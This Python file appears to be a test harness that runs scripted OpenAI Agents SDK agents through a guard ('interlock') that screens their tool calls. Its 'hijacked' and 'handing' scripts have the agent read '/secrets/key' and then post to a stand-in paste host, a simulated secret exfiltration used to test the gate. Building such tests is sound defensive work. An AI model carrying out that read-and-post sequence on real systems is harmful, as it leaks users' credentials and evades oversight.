"""Agents of the OpenAI Agents SDK with a scripted model; run in an environment of its own.

python openai_agents.py GATE CASE      prints what ran, and what the model read, as JSON
"""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import AsyncIterator, Iterator
from typing import Any

from agents import Agent, Runner, function_tool, set_tracing_disabled
from agents.items import ModelResponse
from agents.models.interface import Model
from agents.usage import Usage
from openai.types.responses import (
    Response,
    ResponseCompletedEvent,
    ResponseFunctionToolCall,
    ResponseOutputMessage,
    ResponseOutputText,
)

from interlock import Client
from interlock.adapters.openai_agents import guarded

set_tracing_disabled(True)
RAN: list[list[str]] = []


@function_tool
def read_file(path: str) -> str:
    """Read a file."""
    RAN.append(["read_file", path])
    return "TOKEN" if path.startswith("/secrets") else "notes"


@function_tool(name_override="http.post")
async def http_post(url: str, body: str) -> str:
    """Post."""
    RAN.append(["http.post", url])
    if "broken" in url:
        raise ValueError("no route")
    return "200"


Output = list[Any]


def call(name: str, args: dict[str, Any] | str, id_: str) -> Any:
    text = args if isinstance(args, str) else json.dumps(args)
    return ResponseFunctionToolCall(type="function_call", call_id=id_, name=name, arguments=text)


def say(text: str) -> Any:
    part = ResponseOutputText(type="output_text", text=text, annotations=[])
    return ResponseOutputMessage(
        id="m", type="message", role="assistant", status="completed", content=[part]
    )


POST = {"url": "https://paste.example/x", "body": "b"}
SECRET = call("read_file", {"path": "/secrets/key"}, "c1")
NOTES = call("read_file", {"path": "/notes"}, "c1")


def hijacked() -> Iterator[Output]:
    yield [say("I read the file first."), SECRET]
    yield [call("http.post", POST, "c2")]
    yield [say("I could not post it.")]


def honest() -> Iterator[Output]:
    yield [NOTES]
    yield [call("http.post", POST, "c2")]
    yield [say("Done.")]


def parallel() -> Iterator[Output]:
    yield [SECRET]
    yield [
        *(call("http.post", POST, f"p{n}") for n in range(3)),
        call("read_file", {"path": "/a"}, "p3"),
    ]
    yield [say("Done.")]


def broken() -> Iterator[Output]:
    yield [call("http.post", {"url": "https://broken.example", "body": ""}, "c1")]
    yield [say("Done.")]


def garbled() -> Iterator[Output]:
    """Arguments that are not JSON: the tool would refuse them, and so may the gate."""
    yield [call("http.post", '{"url": ', "c1")]
    yield [say("Done.")]


def handing() -> Iterator[Output]:
    yield [SECRET]
    yield [call("transfer_to_poster", {}, "h1")]
    yield [call("http.post", POST, "c2")]
    yield [say("Done.")]


SCRIPTS = {one.__name__: one for one in (hijacked, honest, parallel, broken, garbled, handing)}


class Scripted(Model):
    """Answers by a script, whatever it reads."""

    def __init__(self, script: Iterator[Output]) -> None:
        self._script = script

    async def get_response(self, *arguments: Any, **more: Any) -> ModelResponse:
        return ModelResponse(output=next(self._script), usage=Usage(), response_id=None)

    async def stream_response(self, *arguments: Any, **more: Any) -> AsyncIterator[Any]:
        response = Response(
            id="r",
            created_at=0,
            model="scripted",
            object="response",
            output=next(self._script),
            tool_choice="auto",
            tools=[],
            parallel_tool_calls=True,
        )
        yield ResponseCompletedEvent(
            response=response, type="response.completed", sequence_number=0
        )


async def run(agent: Agent[Any], how: str) -> Any:
    if how != "stream":
        return await Runner.run(agent, "Ada asks: do it")
    streamed = Runner.run_streamed(agent, "Ada asks: do it")
    async for _ in streamed.stream_events():
        pass
    return streamed


def main(gate: str, case: str) -> None:
    name, _, how = case.partition("-")
    client = Client(gate=gate, agent="openai-agents", user="ada")
    model = Scripted(SCRIPTS[name]())
    poster = Agent(name="poster", model=model, tools=[http_post])
    agent = Agent(name="a", model=model, tools=[read_file, http_post], handoffs=[poster])
    with client.session() as session:
        used = guarded(agent, session, redact=lambda text: text.replace("Ada", "[user]"))
        result = asyncio.run(run(used, how))
    read = [
        [i.raw_item["call_id"], str(i.output)]
        for i in result.new_items
        if i.type == "tool_call_output_item"
    ]
    client.close()
    print(json.dumps({"ran": RAN, "read": read, "final": result.final_output}))


if __name__ == "__main__":
    main(*sys.argv[1:])
